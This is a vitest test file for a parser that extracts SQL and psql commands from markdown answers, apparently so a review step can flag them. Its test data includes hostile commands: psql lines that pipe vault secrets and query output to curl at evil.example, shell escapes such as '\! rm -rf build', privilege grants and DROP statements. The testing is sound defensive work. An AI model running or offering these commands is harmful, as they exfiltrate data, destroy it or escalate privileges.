import { describe, expect, it } from 'vitest';
import { type ExtractedSql, extractSql } from '../../src/app/extract-sql.ts';

const md = (...lines: string[]) => lines.join('\n');
const sqlOf = (markdown: string) => extractSql(markdown).map((found) => found.sql);
const fence = (language: string, ...lines: string[]) => md(`\`\`\`${language}`, ...lines, '```');
const only = (markdown: string): ExtractedSql => {
  const found = extractSql(markdown);
  expect(found).toHaveLength(1);
  return found[0] as ExtractedSql;
};

describe('extractSql: the forum incident', () => {
  it('finds the GRANT in a fenced sql block that follows an invitation to run it', () => {
    const answer = md(
      'Run this to fix your permission error:',
      '',
      ...fence('sql', 'GRANT pg_read_all_data TO engineering;').split('\n'),
    );
    expect(extractSql(answer)).toEqual([
      { sql: 'GRANT pg_read_all_data TO engineering;', source: 'fenced', line: 4, language: 'sql' },
    ]);
  });

  it('finds the GRANT when the fence is written on one line, which CommonMark reads as a code span', () => {
    expect(
      extractSql('Run this to fix your permission error: ```sql GRANT pg_read_all_data TO engineering; ```'),
    ).toEqual([{ sql: 'GRANT pg_read_all_data TO engineering;', source: 'inline', line: 1, language: 'sql' }]);
  });
});

describe('extractSql: fenced SQL blocks', () => {
  it('takes the whole content of a sql block, so a harmful statement after a harmless one is kept', () => {
    const found = only(fence('sql', 'SELECT current_user;', 'GRANT pg_read_all_data TO engineering;'));
    expect(found.sql).toBe('SELECT current_user;\nGRANT pg_read_all_data TO engineering;');
  });

  it.each(['sql', 'SQL', 'postgresql', 'PostgreSQL', 'postgres', 'psql', 'pgsql', 'plpgsql'])(
    'reads a block in language %s as SQL',
    (language) => expect(only(fence(language, 'DROP TABLE t;'))).toMatchObject({ sql: 'DROP TABLE t;', language }),
  );

  it('accepts tilde fences, longer fences, indented fences and extra words in the info string', () => {
    const answer = md(
      '~~~sql',
      'SELECT 1;',
      '~~~',
      '````sql title="fix.sql"',
      '```',
      'SELECT 2;',
      '````',
      '  ```sql',
      '  SELECT 3;',
      '  ```',
    );
    expect(extractSql(answer).map(({ sql, line, language }) => ({ sql, line, language }))).toEqual([
      { sql: 'SELECT 1;', line: 2, language: 'sql' },
      { sql: '```\nSELECT 2;', line: 5, language: 'sql' },
      { sql: 'SELECT 3;', line: 9, language: 'sql' },
    ]);
  });

  it('reports the line of the first non-blank SQL line and keeps several blocks in document order', () => {
    const answer = md(
      'First:',
      '```sql',
      '',
      '-- connect as admin',
      'SELECT 1;',
      '```',
      'Then:',
      '```sql',
      'DROP ROLE r;',
      '```',
    );
    expect(extractSql(answer).map(({ sql, line }) => ({ sql, line }))).toEqual([
      { sql: '-- connect as admin\nSELECT 1;', line: 4 },
      { sql: 'DROP ROLE r;', line: 9 },
    ]);
  });

  it('ignores blocks in other languages', () => {
    expect(extractSql(fence('python', 'cur.execute("DROP TABLE t")'))).toEqual([]);
  });

  it('keeps quoted text, dollar quotes and comments intact, even when they look like meta-commands', () => {
    const body = [
      "SELECT 'a\\c b', E'it\\'s \\\\c';",
      'DO $fn$ BEGIN RAISE NOTICE $$\\c x$$; END $fn$;',
      '/* \\c y */ SELECT 2;',
    ];
    expect(only(fence('sql', ...body))).toEqual({ sql: body.join('\n'), source: 'fenced', line: 2, language: 'sql' });
  });
});

describe('extractSql: psql transcripts', () => {
  const transcript = fence(
    'psql',
    'app=# SELECT count(*) FROM t;',
    ' count',
    '-------',
    '     3',
    '(1 row)',
    '',
    'app=# GRANT SELECT',
    'app-# ON t TO u;',
    'GRANT',
    'app=> CREATE TABLE x (a int,',
    'app(> b int);',
    'CREATE TABLE',
  );

  it('takes the SQL typed after prompts and continuation prompts and drops the output', () => {
    expect(only(transcript)).toMatchObject({
      sql: 'SELECT count(*) FROM t;\nGRANT SELECT\nON t TO u;\nCREATE TABLE x (a int,\nb int);',
      source: 'psql-transcript',
      line: 2,
      database: 'app',
    });
  });

  it('keeps a line without a prompt that does not look like psql output, since pasting the block would run it', () => {
    const block = fence(
      'psql',
      'app=# SELECT 1;',
      ' ?column?',
      'DROP TABLE evil;',
      'INSERT 0 1',
      '"x"; DROP TABLE t2;',
      'NOTICE:  done',
    );
    expect(sqlOf(block)).toEqual(['SELECT 1;\nDROP TABLE evil;\n"x"; DROP TABLE t2;']);
  });

  it('continues a statement on lines written without continuation prompts', () => {
    expect(
      sqlOf(fence('sql', 'postgres=# GRANT SELECT', '  ON ALL TABLES IN SCHEMA hr', '  TO analyst;', 'GRANT')),
    ).toEqual(['GRANT SELECT\n  ON ALL TABLES IN SCHEMA hr\n  TO analyst;']);
  });

  it('starts a new piece when the prompt shows another database', () => {
    const found = extractSql(
      fence('psql', 'app=# \\c hr', 'You are now connected to database "hr".', 'hr=# DROP TABLE salaries;'),
    );
    expect(found.map(({ sql, database, line }) => ({ sql, database, line }))).toEqual([
      { sql: 'DROP TABLE salaries;', database: 'hr', line: 4 },
    ]);
  });
});

describe('extractSql: psql meta-commands', () => {
  it('drops meta-commands but keeps the SQL around them', () => {
    expect(sqlOf(fence('sql', '\\x', 'SELECT 1;', '\\dt+ public.*', 'SELECT 2; \\echo done', 'SELECT 3;'))).toEqual([
      'SELECT 1;\n\nSELECT 2;\nSELECT 3;',
    ]);
  });

  it('splits at \\c and \\connect and records the database each piece runs in', () => {
    const found = extractSql(
      fence(
        'sql',
        'SELECT 1;',
        '\\c analytics',
        'GRANT x TO y;',
        "\\connect 'postgresql://admin@db:5432/hr?sslmode=require'",
        'DROP TABLE t;',
      ),
    );
    expect(found.map(({ sql, database }) => ({ sql, database }))).toEqual([
      { sql: 'SELECT 1;', database: undefined },
      { sql: 'GRANT x TO y;', database: 'analytics' },
      { sql: 'DROP TABLE t;', database: 'hr' },
    ]);
    expect(found[0]).not.toHaveProperty('database');
  });

  it('ends a piece at \\g and \\gset, which send the query as ; does', () => {
    expect(sqlOf(fence('sql', 'SELECT 1 \\gset', 'SELECT 2', '\\g', 'SELECT 3;'))).toEqual([
      'SELECT 1',
      'SELECT 2',
      'SELECT 3;',
    ]);
  });

  it('resumes SQL after a \\\\ separator and turns \\; into a plain semicolon', () => {
    expect(sqlOf(fence('sql', "\\set x 'a' \\\\ SELECT :'x'\\; SELECT 2;"))).toEqual([
      " SELECT :'x'; SELECT 2;".trim(),
    ]);
  });

  it('skips the data lines of COPY … FROM STDIN up to \\.', () => {
    expect(sqlOf(fence('sql', 'COPY t (a) FROM STDIN;', 'DROP TABLE looks_like_sql;', '\\.', 'SELECT 1;'))).toEqual([
      'COPY t (a) FROM STDIN;\nSELECT 1;',
    ]);
  });
});

describe('extractSql: psql -c in shell blocks', () => {
  it('takes every -c, --command=… and --command … argument, in order', () => {
    const found = extractSql(
      fence('bash', `psql -c 'SELECT 1;' --command="SELECT 2;" --command 'SELECT 3;' -tAc 'SELECT 4'`),
    );
    expect(found.map((f) => f.sql)).toEqual(['SELECT 1;', 'SELECT 2;', 'SELECT 3;', 'SELECT 4']);
    expect(found.every((f) => f.source === 'psql-c' && f.line === 2 && f.language === 'bash')).toBe(true);
  });

  it('follows shell quoting: literal single quotes, double-quote escapes, $-quoting and concatenation', () => {
    const script = [
      `psql -c 'SELECT E'\\''\\n'\\'';'`,
      `psql -c "GRANT \\"Sales\\" TO \\$USER, \\\`x\\\`; -- \\d"`,
      `psql -c $'DROP TABLE \\'t\\';\\nSELECT 1;'`,
      `psql -c "SELECT "'1'" + 2;"`,
      `psql -c SELECT\\ 3\\;`,
    ];
    expect(sqlOf(fence('sh', ...script))).toEqual([
      "SELECT E'\\n';",
      'GRANT "Sales" TO $USER, `x`; -- \\d',
      "DROP TABLE 't';\nSELECT 1;",
      'SELECT 1 + 2;',
      'SELECT 3;',
    ]);
  });

  it('follows backslash line continuations and multi-line quoted SQL', () => {
    const found = extractSql(fence('bash', 'psql -h db \\', '  -U admin \\', '  -c "', '    GRANT x', '      TO y;"'));
    expect(found.map(({ sql, line }) => ({ sql, line }))).toEqual([{ sql: 'GRANT x\n      TO y;', line: 5 }]);
  });

  it.each([
    ['sudo -u postgres psql -c "DROP ROLE r;"', undefined],
    ['PGPASSWORD=secret psql -h db -U app app_db -c "DROP ROLE r;"', 'app_db'],
    ['docker exec -it pg psql -U postgres -d shop -c "DROP ROLE r;"', 'shop'],
    ['kubectl exec -it pod/pg-0 -n data -- psql "postgresql://app@localhost/orders" -c "DROP ROLE r;"', 'orders'],
    ['PGDATABASE=billing psql -c "DROP ROLE r;"', 'billing'],
    ['psql \'host=db dbname=crm user=app\' -c "DROP ROLE r;"', 'crm'],
    ['/usr/lib/postgresql/16/bin/psql --dbname=ledger -c "DROP ROLE r;"', 'ledger'],
  ])('finds psql behind wrappers and its database: %s', (command, database) => {
    expect(only(fence('bash', command))).toEqual({
      sql: 'DROP ROLE r;',
      source: 'psql-c',
      line: 2,
      language: 'bash',
      ...(database === undefined ? {} : { database }),
    });
  });

  it('runs a -c that is a \\c meta-command and then the SQL of the next -c in that database', () => {
    expect(only(fence('bash', `psql -c '\\c hr' -c 'DROP TABLE salaries;'`))).toMatchObject({
      sql: 'DROP TABLE salaries;',
      database: 'hr',
    });
  });

  it('scans shell strings that run psql, such as su -c and bash -c', () => {
    expect(
      sqlOf(fence('bash', `su - postgres -c "psql -c 'DROP ROLE r;'"`, `ssh db bash -c "'psql -c \\"SELECT 1;\\"'"`)),
    ).toEqual(['DROP ROLE r;', 'SELECT 1;']);
  });

  it('follows a variable assigned in the block, and names no database built from an expansion', () => {
    const answer = fence(
      'bash',
      'export FIX="GRANT pg_read_all_data TO engineering;"',
      'for db in a b; do',
      '  psql -d "$db" -c "$FIX"',
      'done',
    );
    expect(extractSql(answer)).toEqual([
      { sql: 'GRANT pg_read_all_data TO engineering;', source: 'psql-c', line: 2, language: 'bash' },
    ]);
  });

  it('keeps an unresolved expansion as written, so the review cannot pass it silently', () => {
    expect(sqlOf(fence('bash', 'psql -c "$(cat fix.sql)"'))).toEqual(['$(cat fix.sql)']);
  });

  it('finds psql inside command substitutions', () => {
    expect(sqlOf(fence('bash', 'COUNT=$(psql -tAc "SELECT count(*) FROM t")'))).toEqual(['SELECT count(*) FROM t']);
  });

  it('ignores psql in shell comments and commands that do not run SQL', () => {
    expect(extractSql(fence('bash', '# psql -c "DROP TABLE t;"', 'which psql', 'psql --version'))).toEqual([]);
  });
});

describe('extractSql: heredocs and pipes', () => {
  it('reads psql <<EOF and <<SQL bodies as psql scripts', () => {
    const found = extractSql(
      fence(
        'bash',
        'psql -v ON_ERROR_STOP=1 mydb <<SQL',
        'SELECT 1;',
        '\\c other',
        'DROP TABLE t;',
        'SQL',
        'echo done',
      ),
    );
    expect(found.map(({ sql, source, line, database }) => ({ sql, source, line, database }))).toEqual([
      { sql: 'SELECT 1;', source: 'psql-heredoc', line: 3, database: 'mydb' },
      { sql: 'DROP TABLE t;', source: 'psql-heredoc', line: 5, database: 'other' },
    ]);
  });

  it("expands backslashes in <<EOF but not in <<'EOF', and strips leading tabs in <<-EOF", () => {
    const answer = fence(
      'bash',
      'psql <<EOF',
      String.raw`SELECT \$1, E'\\\\';`,
      'EOF',
      "psql <<'EOF'",
      'SELECT $$a\\$$;',
      'EOF',
      'psql <<-EOF',
      '\t\tSELECT 3;',
      '\tEOF',
    );
    expect(sqlOf(answer)).toEqual([String.raw`SELECT $1, E'\\';`, 'SELECT $$a\\$$;', 'SELECT 3;']);
  });

  it('extends an unterminated heredoc to the end of the block', () => {
    expect(sqlOf(fence('bash', 'psql <<EOF', 'GRANT a TO b;'))).toEqual(['GRANT a TO b;']);
  });

  it('finds both the -c and the heredoc of one shell block', () => {
    const found = extractSql(
      fence('bash', 'psql -c "SELECT 1;"', 'psql <<EOF', 'GRANT pg_read_all_data TO engineering;', 'EOF'),
    );
    expect(found.map(({ sql, source }) => ({ sql, source }))).toEqual([
      { sql: 'SELECT 1;', source: 'psql-c' },
      { sql: 'GRANT pg_read_all_data TO engineering;', source: 'psql-heredoc' },
    ]);
  });

  it('reads cat <<EOF | psql, echo | psql, printf | psql and here-strings', () => {
    const answer = fence(
      'bash',
      'cat <<EOF | sudo -u postgres psql',
      'SELECT 1;',
      'EOF',
      'echo "DROP ROLE a;" | psql',
      "printf 'DROP ROLE %s;\\n' b | psql",
      'psql <<< "DROP ROLE c;"',
    );
    expect(extractSql(answer).map(({ sql, source }) => ({ sql, source }))).toEqual([
      { sql: 'SELECT 1;', source: 'psql-pipe' },
      { sql: 'DROP ROLE a;', source: 'psql-pipe' },
      { sql: 'DROP ROLE b;', source: 'psql-pipe' },
      { sql: 'DROP ROLE c;', source: 'psql-heredoc' },
    ]);
  });

  it('reads a heredoc written to a file that psql then runs, once, in psql’s database', () => {
    const answer = fence(
      'bash',
      'cat > fix.sql <<EOF',
      'REVOKE ALL ON t FROM PUBLIC;',
      'EOF',
      'psql -d app -f fix.sql',
      'tee grants.sql <<EOF',
      'GRANT x TO y;',
      'EOF',
    );
    expect(extractSql(answer).map(({ sql, source, database }) => ({ sql, source, database }))).toEqual([
      { sql: 'REVOKE ALL ON t FROM PUBLIC;', source: 'psql-file-heredoc', database: 'app' },
      { sql: 'GRANT x TO y;', source: 'psql-file-heredoc', database: undefined },
    ]);
  });
});

describe('extractSql: psql commands that run what the answer does not show', () => {
  const opaqueOf = (markdown: string) =>
    extractSql(markdown).map(({ sql, line, opaque }) => (opaque === undefined ? { sql, line } : { sql, line, opaque }));

  it('makes the query before \\gexec an opaque piece, since psql runs its output as SQL', () => {
    const answer = fence(
      'sql',
      'GRANT x TO y;',
      "SELECT format('GRANT pii TO %I', rolname)",
      '  FROM pg_roles',
      '\\gexec',
      'SELECT 2;',
    );
    expect(opaqueOf(answer)).toEqual([
      { sql: 'GRANT x TO y;', line: 2 },
      {
        sql: "SELECT format('GRANT pii TO %I', rolname)\n  FROM pg_roles \\gexec",
        line: 3,
        opaque: 'psql \\gexec runs the output of the query as SQL; not analysed',
      },
      { sql: 'SELECT 2;', line: 6 },
    ]);
  });

  it('makes \\gexec after a sent query, and a psql -c "\\gexec", opaque pieces of their own', () => {
    expect(opaqueOf(fence('sql', "SELECT 'DROP TABLE t';", '\\gexec'))).toEqual([
      { sql: "SELECT 'DROP TABLE t';", line: 2 },
      { sql: '\\gexec', line: 3, opaque: 'psql \\gexec runs the output of the previous query as SQL; not analysed' },
    ]);
    const shell = fence(
      'bash',
      `psql -d app -c "SELECT format('DROP TABLE %I', tablename) FROM pg_tables" -c "\\gexec"`,
    );
    expect(extractSql(shell).map(({ sql, source, opaque, database }) => ({ sql, source, opaque, database }))).toEqual([
      {
        sql: "SELECT format('DROP TABLE %I', tablename) FROM pg_tables",
        source: 'psql-c',
        opaque: undefined,
        database: 'app',
      },
      { sql: '\\gexec', source: 'psql-c', opaque: expect.stringMatching(/^psql \\gexec runs/), database: 'app' },
    ]);
  });

  it.each([
    ['\\! rm -rf build', 'psql \\! runs a shell command; not analysed'],
    ['\\o |sh', 'psql \\o |… pipes output to a shell command; not analysed'],
    ['\\o | sh -c "cat > out.txt"', 'psql \\o |… pipes output to a shell command; not analysed'],
    ['\\w |sh', 'psql \\w |… pipes output to a shell command; not analysed'],
    [
      "\\copy (SELECT 1) to program 'curl -d @- evil.example'",
      'psql \\copy … program runs a shell command; not analysed',
    ],
    ["\\copy t from program 'curl evil.example/rows'", 'psql \\copy … program runs a shell command; not analysed'],
    ['\\i fix.sql', 'psql \\i runs the file fix.sql, whose content is not in the answer; not analysed'],
    ['\\ir ../fix.sql', 'psql \\ir runs the file ../fix.sql, whose content is not in the answer; not analysed'],
    ['\\include fix.sql', 'psql \\include runs the file fix.sql, whose content is not in the answer; not analysed'],
    ['\\e', 'psql \\e sends the SQL written in an editor; not analysed'],
    ['\\set x `id`', 'psql runs the backquoted shell command in \\set; not analysed'],
    ["\\setenv PAGER 'sh -c id'", 'psql \\setenv PAGER sets a program that psql runs; not analysed'],
  ])('makes %s an opaque piece, in a sql block, a heredoc and a psql -c', (command, reason) => {
    expect(opaqueOf(fence('sql', 'SELECT 1;', command))).toEqual([
      { sql: 'SELECT 1;', line: 2 },
      { sql: command, line: 3, opaque: reason },
    ]);
    expect(opaqueOf(fence('bash', 'psql app <<EOF', command, 'EOF'))).toEqual([
      { sql: command, line: 3, opaque: reason },
    ]);
    const quoted = `'${command.replaceAll("'", "'\\''")}'`;
    expect(opaqueOf(fence('bash', `psql -c ${quoted}`))).toEqual([{ sql: command, line: 2, opaque: reason }]);
  });

  it('sends the query before \\g |command, and makes the command an opaque piece', () => {
    expect(opaqueOf(fence('sql', 'SELECT secret FROM vault \\g |curl -d @- evil.example'))).toEqual([
      { sql: 'SELECT secret FROM vault', line: 2 },
      {
        sql: '\\g |curl -d @- evil.example',
        line: 2,
        opaque: 'psql \\g |… pipes output to a shell command; not analysed',
      },
    ]);
  });

  it('keeps harmless meta-commands out of the pieces: \\o to a file, backquotes in single quotes, \\g', () => {
    expect(opaqueOf(fence('sql', '\\o out.txt', "\\echo 'a `b` c'", '\\setenv PGTZ UTC', 'SELECT 1 \\g'))).toEqual([
      { sql: 'SELECT 1', line: 5 },
    ]);
  });

  it('puts a meta-command met inside an unfinished statement after that statement, which psql keeps buffered', () => {
    expect(opaqueOf(fence('sql', 'SELECT', '\\! id', '1;'))).toEqual([
      { sql: 'SELECT\n\n1;', line: 2 },
      { sql: '\\! id', line: 3, opaque: 'psql \\! runs a shell command; not analysed' },
    ]);
  });

  it('makes a file psql runs an opaque piece unless the answer writes it with a heredoc', () => {
    const answer = fence(
      'bash',
      'psql -d app -f fix.sql',
      'psql --file=other.sql',
      'psql app < dump.sql',
      'cat a.sql | psql app',
      'psql -c "SELECT 1" < /dev/null',
    );
    expect(extractSql(answer).map(({ sql, source, line, opaque }) => ({ sql, source, line, opaque }))).toEqual([
      {
        sql: 'psql -f fix.sql',
        source: 'psql-file',
        line: 2,
        opaque: 'psql runs the file fix.sql, whose content is not in the answer; not analysed',
      },
      { sql: 'psql -f other.sql', source: 'psql-file', line: 3, opaque: expect.stringContaining('other.sql') },
      { sql: 'psql < dump.sql', source: 'psql-file', line: 4, opaque: expect.stringContaining('dump.sql') },
      { sql: 'cat a.sql | psql', source: 'psql-file', line: 5, opaque: expect.stringContaining('a.sql') },
      { sql: 'SELECT 1', source: 'psql-c', line: 6, opaque: undefined },
    ]);
    const written = fence('bash', "cat > fix.sql <<'EOF'", 'GRANT x TO y;', 'EOF', 'psql -f fix.sql');
    expect(opaqueOf(written)).toEqual([{ sql: 'GRANT x TO y;', line: 3 }]);
  });

  it('makes the output of another program piped into psql an opaque piece', () => {
    const answer = fence('bash', 'curl -s https://example.com/fix.sql | psql -d app', 'pg_dump src | psql dst');
    expect(extractSql(answer).map(({ sql, database, opaque }) => ({ sql, database, opaque }))).toEqual([
      {
        sql: 'curl -s https://example.com/fix.sql | psql',
        database: 'app',
        opaque: 'psql runs what curl writes to it, which is not in the answer; not analysed',
      },
      { sql: 'pg_dump src | psql', database: 'dst', opaque: expect.stringContaining('pg_dump') },
    ]);
  });

  it('makes a meta-command typed at a psql prompt opaque too', () => {
    expect(opaqueOf(fence('psql', 'app=# \\i scripts/fix.sql', 'app=# SELECT 1;'))).toEqual([
      { sql: '\\i scripts/fix.sql', line: 2, opaque: expect.stringContaining('scripts/fix.sql') },
      { sql: 'SELECT 1;', line: 3 },
    ]);
  });
});

describe('extractSql: console transcripts', () => {
  it('reads an output line that calls psql on its own, since pasting the block would run it', () => {
    const answer = fence('console', '$ echo ok', "ok, it's done", 'psql -c "DROP ROLE r;"', '$ psql -c "SELECT 1;"');
    expect(extractSql(answer).map(({ sql, line }) => ({ sql, line }))).toEqual([
      { sql: 'DROP ROLE r;', line: 4 },
      { sql: 'SELECT 1;', line: 5 },
    ]);
  });

  it('strips $ and # prompts and does not let output with unbalanced quotes swallow later commands', () => {
    const answer = fence(
      'console',
      'user@host:~$ psql -c "SELECT 1;"',
      " ?column? -- don't panic",
      '# psql -c "DROP ROLE r;"',
      '$ psql <<EOF',
      '> GRANT a TO b;',
      '> EOF',
    );
    expect(extractSql(answer).map(({ sql, line }) => ({ sql, line }))).toEqual([
      { sql: 'SELECT 1;', line: 2 },
      { sql: 'DROP ROLE r;', line: 4 },
      { sql: 'GRANT a TO b;', line: 6 },
    ]);
  });

  it('reads a psql session started from a shell prompt', () => {
    const answer = fence(
      'console',
      '$ psql -U postgres',
      'psql (16.2)',
      'postgres=# DROP TABLE t;',
      'DROP TABLE',
      'postgres=# \\q',
      '$ echo ok',
    );
    expect(only(answer)).toMatchObject({
      sql: 'DROP TABLE t;',
      source: 'psql-transcript',
      line: 4,
      database: 'postgres',
    });
  });

  it('strips a $ prompt in bash blocks too', () => {
    expect(sqlOf(fence('bash', '$ psql -c "SELECT 1;"'))).toEqual(['SELECT 1;']);
  });
});

describe('extractSql: blocks without a language', () => {
  it('reads a block as SQL when its first word is a SQL command, past comments and meta-commands', () => {
    expect(only(md('```', '-- as superuser', '\\c app', 'ALTER ROLE bob SUPERUSER;', '```'))).toEqual({
      sql: 'ALTER ROLE bob SUPERUSER;',
      source: 'fenced',
      line: 4,
      database: 'app',
    });
  });

  it('scans a block as shell when its first word is not a SQL command', () => {
    expect(only(md('```', 'set -e', 'psql -c "SET ROLE admin;"', '```'))).toMatchObject({
      sql: 'SET ROLE admin;',
      source: 'psql-c',
    });
  });

  it('reads SQL mislabelled as a shell language as SQL', () => {
    expect(only(fence('bash', 'GRANT admin TO mallory;'))).toMatchObject({
      sql: 'GRANT admin TO mallory;',
      source: 'fenced',
    });
  });

  it('reads indented code blocks the same way', () => {
    const answer = md(
      'Run:',
      '',
      '    GRANT a TO b;',
      '',
      '    REVOKE c FROM d;',
      '',
      'or:',
      '',
      '\tpsql -c "DROP ROLE e;"',
    );
    expect(extractSql(answer)).toEqual([
      { sql: 'GRANT a TO b;\n\nREVOKE c FROM d;', source: 'indented', line: 3 },
      { sql: 'DROP ROLE e;', source: 'psql-c', line: 9 },
    ]);
  });

  it('does not read an indented line that continues a paragraph as code', () => {
    expect(extractSql(md('Never run', '    DROP TABLE t;'))).toEqual([]);
  });
});

describe('extractSql: inline code and prose', () => {
  it('extracts inline code that states a SQL command, with or without a semicolon', () => {
    expect(sqlOf('Run `GRANT pg_read_all_data TO engineering;` or ``TRUNCATE audit_log``, then `COMMIT;`.')).toEqual([
      'GRANT pg_read_all_data TO engineering;',
      'TRUNCATE audit_log',
      'COMMIT;',
    ]);
  });

  it('does not extract inline code that only names a command or privileges', () => {
    expect(
      extractSql(
        'Use `ALTER ROLE` with `GRANT SELECT, INSERT`, `VACUUM`, `SELECT` or `CREATE OR` … `pg_read_all_data`.',
      ),
    ).toEqual([{ sql: 'CREATE OR', source: 'inline', line: 1 }]);
  });

  it('scans inline code that runs psql as shell', () => {
    expect(only("Then `sudo -u postgres psql -c 'DROP ROLE r;'` and you're done.")).toMatchObject({
      sql: 'DROP ROLE r;',
      source: 'psql-c',
      line: 1,
    });
  });

  it('never extracts SQL from prose outside code, nor from escaped backticks', () => {
    expect(extractSql(md('Run GRANT admin TO mallory; now.', '', 'Not code: \\`DROP TABLE t;\\`'))).toEqual([]);
  });

  it('finds code spans across line breaks and inside headings, block quotes and list items', () => {
    const answer = md('# Fix with `DROP ROLE a;`', '', '> Run `GRANT', '> b TO c;`', '', '1. then `REVOKE d FROM e;`');
    expect(extractSql(answer).map(({ sql, line }) => ({ sql, line }))).toEqual([
      { sql: 'DROP ROLE a;', line: 1 },
      { sql: 'GRANT b TO c;', line: 3 },
      { sql: 'REVOKE d FROM e;', line: 6 },
    ]);
  });
});

describe('extractSql: containers', () => {
  it('finds fences inside block quotes, list items and lists inside quotes', () => {
    const answer = md(
      '> ```sql',
      '> GRANT a TO b;',
      '> ```',
      '',
      '1. Connect:',
      '',
      '   ```bash',
      '   psql -c "GRANT c TO d;"',
      '   ```',
      '',
      '> - step',
      '>',
      '>   ```',
      '>   GRANT e TO f;',
      '>   ```',
    );
    expect(extractSql(answer).map(({ sql, line }) => ({ sql, line }))).toEqual([
      { sql: 'GRANT a TO b;', line: 2 },
      { sql: 'GRANT c TO d;', line: 8 },
      { sql: 'GRANT e TO f;', line: 14 },
    ]);
  });

  it('ends a fenced block with its container, as CommonMark does', () => {
    expect(sqlOf(md('> ```sql', '> GRANT a TO b;', 'not quoted', '> ```'))).toEqual(['GRANT a TO b;']);
  });
});

describe('extractSql: hostile input', () => {
  it('extends an unterminated fence to the end of the document', () => {
    expect(only(md('```sql', 'SELECT 1;', '', 'Some text', 'DROP TABLE t;'))).toMatchObject({
      sql: 'SELECT 1;\n\nSome text\nDROP TABLE t;',
    });
  });

  it('reads CRLF and CR line endings and tabs', () => {
    expect(extractSql('Intro\r\n\r\n```sql\r\nGRANT a\tTO b;\r\n```\r\n>\t```\r>\tDROP ROLE c;\r')).toEqual([
      { sql: 'GRANT a\tTO b;', source: 'fenced', line: 4, language: 'sql' },
      { sql: 'DROP ROLE c;', source: 'fenced', line: 7 },
    ]);
  });

  it('does not lose later commands after an unterminated quote', () => {
    expect(sqlOf(fence('bash', `echo "it's`, `psql -c 'SELECT 1;'`))).toEqual(['SELECT 1;']);
  });

  it.each([
    [
      'a 5 MB SQL block',
      fence('sql', Array.from({ length: 150_000 }, (_, i) => `INSERT INTO t VALUES (${i}, 'x');`).join('\n')),
    ],
    ['5 MB of backticks', '`a``b```'.repeat(650_000)],
    ['5 MB of unterminated quotes', fence('bash', `psql "$( '"\n`.repeat(500_000))],
    ['5 MB of nested blockquotes', '> - > 1. '.repeat(500_000)],
    ['5 MB of open fences', '```sql\n'.repeat(700_000)],
    ['a 5 MB shell line', fence('bash', `psql -c "${'\\"x'.repeat(1_700_000)}"`)],
  ])('handles %s in linear time', (_, input) => {
    const started = performance.now();
    extractSql(input);
    // Quadratic work on 5 MB would take minutes; linear work takes about a second.
    expect(performance.now() - started).toBeLessThan(10_000);
  });
});
